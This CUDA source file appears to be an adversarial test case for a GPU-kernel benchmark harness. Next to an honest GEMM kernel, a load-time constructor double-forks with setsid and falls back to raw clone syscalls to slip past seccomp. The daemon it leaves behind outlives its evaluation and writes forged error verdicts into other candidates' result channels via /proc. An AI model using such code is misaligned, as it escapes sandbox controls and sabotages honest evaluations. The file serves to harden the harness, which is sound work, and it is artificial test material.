/*
Adversarial control: leftover_process   (issue class 8: a process that outlives its evaluation
and forges the next one's result; also "a setsid child escapes the process-group kill")

Attack. At load time in the correctness child (role "candidate" in the spec, argv[2] of
/proc/self/cmdline) a constructor forks; the child calls setsid() (new session and process
group, so the harness's kill(-pgid) misses it; the parent-death signal is not inherited) and
forks again so that it is re-parented away from the evaluation. If fork() is refused it tries
the raw clone3 and clone system calls (flags = SIGCHLD only: a new process, not a thread).
The daemon closes every descriptor it inherited and, for up to 10 minutes, scans /proc every
20 ms for a `ptxbench __child <spec>` process of ANOTHER evaluation (a spec in another
folder) whose spec says "role": "candidate"; it opens that process's result channel through
/proc/<pid>/fd/3 and writes one forged line:
  {"event":"error","stage":"synchronize",...,"message":"cudaErrorIllegalAddress: ..."}
The next evaluation takes the first "error" message of its child as the verdict. The daemon
uses no malloc (a process cloned without glibc's fork handlers must not). The candidate's own
GEMM is honest (CUDA cores), and its own evaluation's children are left alone.

Old harness: this candidate PASSED; the next honest candidate was RUNTIME_ERROR
("cudaErrorIllegalAddress ... during the call").
Now: seccomp refuses fork/vfork/clone without CLONE_THREAD (clone3 included) and the PID
namespace takes every descendant with it, so nothing is left behind and the next evaluation
is untouched: PASSED here, then the honest kernel PASSED. (This assumes the filter answers
with an error such as EPERM; a filter that kills the process would make this a RUNTIME_ERROR
at load, which we would call unfair for a correct kernel whose escape merely failed.)
*/
#include <cuda_bf16.h>
#include <cuda_runtime.h>

#include <fcntl.h>
#include <signal.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <cstdint>
#include <cstring>

namespace {

// ---- a plain CUDA-core GEMM: 64x64 tiles, 16-deep K steps, 256 threads, 4x4 outputs each ----
__global__ void __launch_bounds__(256)
    cc_gemm(const __nv_bfloat16* __restrict__ A, const __nv_bfloat16* __restrict__ B,
            __nv_bfloat16* __restrict__ C, int M, int N, int K) {
  __shared__ float As[16][65], Bs[16][65];  // [k][row], padded
  const int tx = threadIdx.x & 15, ty = threadIdx.x >> 4;
  const int m0 = blockIdx.y * 64, n0 = blockIdx.x * 64;
  float acc[4][4] = {};
  for (int k0 = 0; k0 < K; k0 += 16) {
    for (int i = threadIdx.x; i < 64 * 16; i += 256) {
      const int r = i >> 4, k = i & 15, gk = k0 + k;
      As[k][r] = (m0 + r < M && gk < K) ? __bfloat162float(A[(size_t)(m0 + r) * K + gk]) : 0.f;
      Bs[k][r] = (n0 + r < N && gk < K) ? __bfloat162float(B[(size_t)(n0 + r) * K + gk]) : 0.f;
    }
    __syncthreads();
#pragma unroll
    for (int k = 0; k < 16; ++k)
#pragma unroll
      for (int i = 0; i < 4; ++i)
#pragma unroll
        for (int j = 0; j < 4; ++j)
          acc[i][j] = fmaf(As[k][ty + 16 * i], Bs[k][tx + 16 * j], acc[i][j]);
    __syncthreads();
  }
  for (int i = 0; i < 4; ++i) {
    const int m = m0 + ty + 16 * i;
    if (m >= M) continue;
    for (int j = 0; j < 4; ++j) {
      const int n = n0 + tx + 16 * j;
      if (n < N) C[(size_t)m * N + n] = __float2bfloat16_rn(acc[i][j]);
    }
  }
}

int launch_cc_gemm(const __nv_bfloat16* A, const __nv_bfloat16* B, __nv_bfloat16* C, int M, int N,
                   int K, cudaStream_t stream) {
  const dim3 grid((unsigned)((N + 63) / 64), (unsigned)((M + 63) / 64));
  if (grid.y > 65535u) return 20;
  cc_gemm<<<grid, 256, 0, stream>>>(A, B, C, M, N, K);
  return cudaGetLastError() == cudaSuccess ? 0 : 21;
}

// ---- malloc-free helpers for the daemon ----------------------------------------------------

// Reads up to cap-1 bytes of a file into buf (NUL-terminated); the byte count, or -1.
long read_into(const char* path, char* buf, long cap) {
  int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
  if (fd < 0) return -1;
  long n = 0, got;
  while (n < cap - 1 && (got = read(fd, buf + n, (size_t)(cap - 1 - n))) > 0) n += got;
  close(fd);
  buf[n < 0 ? 0 : n] = 0;
  return n;
}

// "/proc/<pid>/<leaf>" into out.
void proc_path(char* out, long pid, const char* leaf) {
  char digits[24];
  int n = 0;
  do digits[n++] = char('0' + pid % 10);
  while ((pid /= 10) > 0);
  char* p = out;
  for (const char* s = "/proc/"; *s;) *p++ = *s++;
  while (n > 0) *p++ = digits[--n];
  *p++ = '/';
  for (const char* s = leaf; *s;) *p++ = *s++;
  *p = 0;
}

// The spec argument of a `ptxbench __child SPEC` command line (NUL-separated), or null.
const char* child_spec(const char* cmdline, long n) {
  for (long p = 0; p < n;) {
    const char* arg = cmdline + p;
    long len = (long)strlen(arg);
    if (strcmp(arg, "__child") == 0 && p + len + 1 < n) return arg + len + 1;
    p += len + 1;
  }
  return nullptr;
}

// Length of the folder part of a path ("/a/b/c.json" -> 4).
size_t folder_len(const char* path) {
  const char* slash = strrchr(path, '/');
  return slash ? (size_t)(slash - path) : 0;
}

char g_own_spec[4096];

[[noreturn]] void daemon_main() {
  for (int fd = 0; fd < 4096; ++fd) close(fd);
  static const char forged[] =
      "{\"event\":\"error\",\"stage\":\"synchronize\",\"seed\":0,"
      "\"cuda_error\":\"cudaErrorIllegalAddress\",\"message\":\"cudaErrorIllegalAddress: an "
      "illegal memory access was encountered\",\"adv\":\"leftover_process\"}\n";
  static long attacked[256];
  int n_attacked = 0;
  static char cmd[8192], spec[16384], path[256];
  static char dents[32768];
  const size_t own_dir = folder_len(g_own_spec);
  timespec start, now, nap = {0, 20 * 1000 * 1000};
  clock_gettime(CLOCK_MONOTONIC, &start);
  for (;;) {
    clock_gettime(CLOCK_MONOTONIC, &now);
    if (now.tv_sec - start.tv_sec > 600) _exit(0);
    int d = open("/proc", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (d >= 0) {
      long got;
      while ((got = syscall(SYS_getdents64, d, dents, sizeof dents)) > 0) {
        for (long off = 0; off < got;) {
          const char* name = dents + off + 19;  // struct linux_dirent64: d_name at byte 19
          off += *reinterpret_cast<unsigned short*>(dents + off + 16);
          long pid = 0;
          const char* c = name;
          for (; *c >= '0' && *c <= '9'; ++c) pid = pid * 10 + (*c - '0');
          if (*c || pid <= 1 || pid == getpid()) continue;
          bool seen = false;
          for (int i = 0; i < n_attacked; ++i) seen |= attacked[i] == pid;
          if (seen) continue;
          proc_path(path, pid, "cmdline");
          long n = read_into(path, cmd, sizeof cmd);
          const char* target = n > 0 ? child_spec(cmd, n) : nullptr;
          if (!target) continue;
          if (folder_len(target) == own_dir && strncmp(target, g_own_spec, own_dir) == 0)
            continue;  // our own evaluation
          if (read_into(target, spec, sizeof spec) <= 0 || !strstr(spec, "\"candidate\"")) continue;
          proc_path(path, pid, "fd/3");
          int ch = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
          if (ch < 0) continue;
          if (write(ch, forged, sizeof forged - 1) > 0 && n_attacked < 256)
            attacked[n_attacked++] = pid;
          close(ch);
        }
      }
      close(d);
    }
    nanosleep(&nap, nullptr);
  }
}

// fork(), else the raw system calls a seccomp filter might have forgotten. 0 in the child.
long new_process() {
  long p = fork();
  if (p >= 0) return p;
  struct {
    uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
  } args = {0, 0, 0, 0, SIGCHLD, 0, 0, 0};
  p = syscall(SYS_clone3, &args, sizeof args);
  if (p >= 0) return p;
  return syscall(SYS_clone, (unsigned long)SIGCHLD, 0UL, 0UL, 0UL, 0UL);
}

__attribute__((constructor)) void leave_something_behind() {
  char cmd[8192];
  long n = read_into("/proc/self/cmdline", cmd, sizeof cmd);
  const char* own = n > 0 ? child_spec(cmd, n) : nullptr;
  if (!own || strlen(own) >= sizeof g_own_spec) return;
  static char spec[16384];
  if (read_into(own, spec, sizeof spec) > 0) {  // unreadable: try from whatever child this is
    const char* role = strstr(spec, "\"role\"");
    const char* value = role ? strchr(role + 6, '"') : nullptr;
    if (!value || strncmp(value, "\"candidate\"", 11) != 0) return;
  }
  strcpy(g_own_spec, own);
  long p = new_process();
  if (p == 0) {  // the intermediate: a session of its own, then away from the evaluation
    setsid();
    if (new_process() == 0) daemon_main();
    _exit(0);
  }
  if (p > 0) waitpid((pid_t)p, nullptr, 0);
}

}  // namespace

extern "C" int run(const __nv_bfloat16* A, const __nv_bfloat16* B, __nv_bfloat16* C, int M, int N,
                   int K, cudaStream_t stream) {
  if (M <= 0 || N <= 0 || K <= 0) return 1;
  return launch_cc_gemm(A, B, C, M, N, K, stream);
}
